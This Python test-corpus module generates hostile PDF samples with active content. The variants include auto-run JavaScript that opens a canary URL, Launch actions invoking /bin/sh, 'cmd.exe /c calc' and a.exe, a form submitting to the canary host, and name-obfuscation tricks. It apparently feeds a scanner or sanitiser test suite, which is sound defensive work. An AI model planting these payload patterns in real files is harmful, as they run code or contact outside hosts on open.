"""PDFs that act when they are opened."""

from __future__ import annotations

from random import Random

from tests.corpus.hostile.made import Made, made, pdf, stream, words


def xfa(variant: int, chance: Random, canary: str) -> Made:
    template = b"<template><subform><field name='%s'/></subform></template>" % words(chance, 1).encode()
    packet = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>%s</xdp:xdp>" % template
    form = (b"/XFA 6 0 R", b"/XFA[(template)6 0 R]", b"/X#46A 6 0 R", b"/XFA[(preamble)6 0 R(template)6 0 R]")
    needs = (b"", b"/NeedsRendering true")[variant // 4]
    catalogue = b"/AcroForm<</Fields[]%s>>%s" % (form[variant % 4], needs)
    return made(f"form{variant}.pdf", pdf(catalogue=catalogue, more=[stream(packet)]), "active_content")


def active_content(variant: int, chance: Random, canary: str) -> Made:
    url = f"http://{canary}/{words(chance, 1)}".encode()
    script = b"app.launchURL\\('%s'\\)" % url
    note = b"/Annots[<</Type/Annot/Subtype/%s/Rect[0 0 99 99]%s>>]"
    file = [
        pdf(catalogue=b"/OpenAction<</S/JavaScript/JS(%s)>>" % script),
        pdf(catalogue=b"/Names<</JavaScript<</Names[(a)6 0 R]>>>>", more=[b"<</S/JavaScript/JS(%s)>>" % script]),
        pdf(catalogue=b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        pdf(catalogue=b"/OpenAction<</S/URI/URI(%s)>>" % url),
        pdf(page=b"/AA<</O<</S/J#61v#61Script/JS(%s)>>>>" % script),
        pdf(page=note % (b"Widget", b"/FT/Btn/A<</S/SubmitForm/F(%s)>>" % url)),
        pdf(page=note % (b"RichMedia", b"/RichMediaContent<<>>")),
        pdf(page=note % (b"Link", b"/A<</S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F<</Type/Filespec/F(a.exe)>>>>>>")),
    ][variant]
    return made(f"acts{variant}.pdf", file, "active_content")
